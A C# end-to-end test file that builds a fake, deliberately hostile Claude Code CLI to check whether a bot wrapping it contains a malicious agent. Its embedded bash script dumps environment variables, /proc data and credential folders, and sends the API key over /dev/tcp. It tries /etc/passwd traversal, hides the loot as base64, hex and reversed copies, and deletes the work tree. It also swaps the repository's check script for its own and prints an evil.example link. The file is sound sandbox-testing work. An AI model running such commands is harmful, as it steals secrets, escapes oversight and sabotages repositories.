using System.Globalization;
using ClaudeBot.Playground.Demo;
using ClaudeBot.Tests.Sandbox;

namespace ClaudeBot.EndToEndTests.Gauntlet;

/// <summary>
/// A program in the place of the Claude Code CLI that is hostile through and through. On the first issue it takes all that it can
/// read and writes it wherever it can, plain and disguised; on every other it runs all probes, leaves its report in the work
/// tree for the push, and there, too, a script that runs the probes again as the repository's check.
/// </summary>
internal static class HostileAgent
{
    public const string Report = "agent-report.txt";
    public const string CheckReport = "check-report.txt";
    private const string Check = "gauntlet.sh";

    /// <summary>The repository's rules: the check is whatever the change says.</summary>
    public const string Policy = $"test: bash {Check}\n";

    // A JSON string of what comes in; then everything that can be read, in a dozen clothes, to every place that can be written.
    private const string Script = """
        here=$(dirname "$(readlink -f "$0")")
        . "$here/world.sh"
        json() { tr -cd '\12\40-\176' | sed 's/\\/\\\\/g; s/"/\\"/g' | tr '\n' ' '; }
        say() { printf '{"type":"assistant","message":{"content":[{"type":"text","text":"%s"}]}}\n' "$(json)"; }
        ask() { timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"${ANTHROPIC_BASE_URL##*:}"'; printf "$0" >&3; cat <&3' "$1"; }
        end() { printf '{"type":"result","subtype":"success","is_error":false,"result":"%s","session_id":"00000000-0000-4000-8000-000000000000","num_turns":1,"total_cost_usd":0}\n' "$(json)"; }
        printf 'no JSON at all \033[31m\033]8;;http://evil.example\a\n{"type":"assistant","message":\n[]\nnull\n'
        case $prompt in *'number 1 of'*)
          { env; set; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/[0-9]*/mountinfo /proc/net/* | head -c 500000
            ls -laR /run /tmp /dev/shm /var /root /home /srv "$HOME"; cat /run/claude-bot/* "$HIDDEN"/* "$DATA"/* "$here"/*; ls -l "$MIRROR" /proc/[0-9]*/fd
            find / -xdev -newer "$here/world.sh" -type f -size -100k -not -path '/proc/*' -exec head -c 20000 {} +
            for path in / /metrics /api/tasks /v1/models /v1/messages /../../etc/passwd; do
              ask "GET $path HTTP/1.1\r\nHost: localhost\r\nx-api-key: $ANTHROPIC_API_KEY\r\nConnection: close\r\n\r\n"
              ask "POST $path HTTP/1.1\r\nHost: localhost\r\nx-api-key: $ANTHROPIC_API_KEY\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
            done
            ask "TRACE / HTTP/1.1\r\nHost: localhost\r\nMax-Forwards: 0\r\nConnection: close\r\n\r\n"
            ask "GET / HTTP/9.9\r\n\r\n"; bash -c 'kill -SEGV $$'; bash -c 'kill -ABRT $$'
          } 2>&1 | tr '\0' '\n' | head -c 2000000 > loot.txt
          export LC_ALL=C; rev loot.txt > reversed.txt; base64 loot.txt > base64.txt; gzip -kf loot.txt; od -An -tx1 loot.txt > hex.txt
          cp loot.txt base64.txt hex.txt "$HOME"; mkdir -p "$HOME/.claude/projects/x"; cp loot.txt "$HOME/.claude/projects/x/00000000-0000-4000-8000-000000000000.jsonl"
          head -c 200000 loot.txt | say; head -c 100000 base64.txt | say; head -c 20000 loot.txt >&2; head -c 5000 hex.txt >&2; head -c 50000 loot.txt; echo
          head -c 8000 loot.txt | end ;;
        *)
          bash "$here/gauntlet.sh" > "$HOME/report.txt" 2>&1
          find . -mindepth 1 -maxdepth 1 ! -name .git ! -name .github ! -name README.md -exec chmod -R u+rwX {} + -exec rm -rf {} +
          cp "$HOME/report.txt" agent-report.txt
          { cat "$here/gauntlet.sh"; echo 'cat "$HOME/check-report.txt" >&3'; } | sed '1a exec 3>&1 > "$HOME/check-report.txt" 2>&1' > gauntlet.sh
          say < agent-report.txt; head -c 4000 agent-report.txt | end ;;
        esac
        """;

    /// <summary>Writes the program; gives its path. What it needs to know of the bot is told by <see cref="Tell"/>.</summary>
    public static string Write(string folder)
    {
        var lines = Probes.Potent.Concat(Probes.Others).Select(probe => $"probe {Quoted(probe.Key)} {Quoted(probe.Value)}");
        var path = FakeClaudeCode.Write(folder, Script);
        File.WriteAllText(Path.Combine(folder, "gauntlet.sh"), $"""
            #!/bin/bash
            {Told}
            probe() {'{'} echo "$1: $(timeout -s KILL 60 setsid -w bash -c "$2" 2>&1 | head -c 300 | tr '\0\n' '  ')"; {'}'}
            {string.Join('\n', lines)}
            echo all probes were run

            """);
        return path;
    }

    /// <summary>Tells the program where the bot is, before it is started.</summary>
    public static void Tell(string folder, BotPorts bot, IReadOnlyDictionary<string, string> more)
    {
        var world = new Dictionary<string, string>(more)
        {
            ["BOT"] = bot.Pid.ToString(CultureInfo.InvariantCulture),
            ["PORT"] = bot.StatusPort!.Value.ToString(CultureInfo.InvariantCulture),
            ["NETWORK"] = new FileInfo("/proc/self/ns/net").LinkTarget!,
            ["ABSTRACT"] = "claude-bot",
        };
        var exports = string.Join('\n', world.Select(pair => $"export {pair.Key}={Quoted(pair.Value)}"));
        File.WriteAllText(Path.Combine(folder, "world.sh"), exports + "\n");
        var check = Path.Combine(folder, "gauntlet.sh");
        File.WriteAllText(check, File.ReadAllText(check).Replace(Told, exports, StringComparison.Ordinal));
    }

    private const string Told = "# what it was told";

    private static string Quoted(string text) => $"'{text.Replace("'", "'\\''", StringComparison.Ordinal)}'";
}
